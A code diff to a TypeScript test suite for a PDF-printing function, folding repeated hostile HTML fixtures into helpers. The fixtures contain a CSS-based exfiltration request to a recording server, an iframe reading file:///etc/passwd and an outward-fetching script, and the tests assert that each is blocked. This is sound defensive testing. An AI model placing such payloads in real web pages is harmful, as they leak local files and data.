@@ -45,35 +45,37 @@ const options = (overrides: Partial<PrintOptions> = {}): PrintOptions => ({
   ...overrides,
 });
 
+/** A page that tries to fetch from the recording server, read a file of this machine and run a script. */
+const hostilePage = (importUrl: string, more = "") =>
+  `<!doctype html><html lang="en"><head><title>T</title>
+  <style>body { background: url("${server.url}/css-exfiltration?secret=1"); } @import url("${importUrl}");</style>
+  <link rel="stylesheet" href="${server.url}/style.css"></head>
+  <body><h1>Visible text</h1><img src="${server.url}/pixel.png"><iframe src="file:///etc/passwd"></iframe>
+  <img src="../outside.png">${more}<script>fetch("${server.url}/script"); document.body.append("SCRIPT RAN");</script></body></html>`;
+
+/** The hostile page's own text is printed, and nothing its script or the machine's files would have added. */
+async function expectPrintedAlone(pdfFile: string): Promise<void> {
+  const pdf = await readPdf(pdfFile);
+  expect(pdf.text).toContain("Visible text");
+  expect(pdf.text).not.toContain("SCRIPT RAN");
+  expect(pdf.text).not.toMatch(/root:x:0:0/);
+}
+
 describe("printPdfs", () => {
   it("prints a hostile page without fetching anything from outside the site, and reports each blocked request", async () => {
-    const hostile = await job(
-      "hostile",
-      `<!doctype html><html lang="en"><head><title>T</title>
-      <style>body { background: url("${server.url}/css-exfiltration?secret=1"); } @import url("${server.url}/import.css");</style>
-      <link rel="stylesheet" href="${server.url}/style.css"></head>
-      <body><h1>Visible text</h1><img src="${server.url}/pixel.png"><iframe src="file:///etc/passwd"></iframe>
-      <img src="../outside.png"><script>fetch("${server.url}/script"); document.body.append("SCRIPT RAN");</script></body></html>`,
-    );
+    const hostile = await job("hostile", hostilePage(`${server.url}/import.css`));
     const [outcome] = await printPdfs(browser, [hostile], options());
     expect(outcome?.ok).toBe(true);
     expect(server.requests).toEqual([]);
     if (!outcome?.ok) return;
     expect(outcome.blocked).toEqual(expect.arrayContaining([`${server.url}/style.css`, `${server.url}/pixel.png`, "file:///etc/passwd"]));
-    const pdf = await readPdf(hostile.pdfFile);
-    expect(pdf.text).toContain("Visible text");
-    expect(pdf.text).not.toContain("SCRIPT RAN");
-    expect(pdf.text).not.toMatch(/root:x:0:0/);
+    await expectPrintedAlone(hostile.pdfFile);
   });
 
   it("prints a hostile page in a browser launched locked down (the site's server its only proxy), reporting each refused request", async () => {
     const hostile = await job(
       "hostile-locked",
-      `<!doctype html><html lang="en"><head><title>T</title>
-      <style>body { background: url("${server.url}/css-exfiltration?secret=1"); } @import url("https://example.org/import.css");</style>
-      <link rel="stylesheet" href="${server.url}/style.css"></head>
-      <body><h1>Visible text</h1><img src="${server.url}/pixel.png"><iframe src="file:///etc/passwd"></iframe>
-      <img src="../outside.png"><img src="missing.png"><img src="bad%E0%A4%A.png"><script>fetch("${server.url}/script"); document.body.append("SCRIPT RAN");</script></body></html>`,
+      hostilePage("https://example.org/import.css", `<img src="missing.png"><img src="bad%E0%A4%A.png">`),
     );
     const siteServer = await serveSite(site);
     const locked = await launchBrowser({ proxy: siteServer.baseUrl.replace(/\/$/, "") });
@@ -88,10 +90,7 @@ describe("printPdfs", () => {
       expect(outcome.blocked).toEqual(expect.arrayContaining([`${server.url}/style.css`, `${server.url}/pixel.png`]));
       // Files of the site only (broken links among them, one with a malformed %-escape); never the browser's own icon.
       expect(outcome.loaded.sort()).toEqual(["bad%E0%A4%A.png", "hostile-locked.html", "missing.png", "outside.png"]);
-      const pdf = await readPdf(hostile.pdfFile);
-      expect(pdf.text).toContain("Visible text");
-      expect(pdf.text).not.toContain("SCRIPT RAN");
-      expect(pdf.text).not.toMatch(/root:x:0:0/);
+      await expectPrintedAlone(hostile.pdfFile);
     } finally {
       await closeBrowser(locked);
       await siteServer.close();
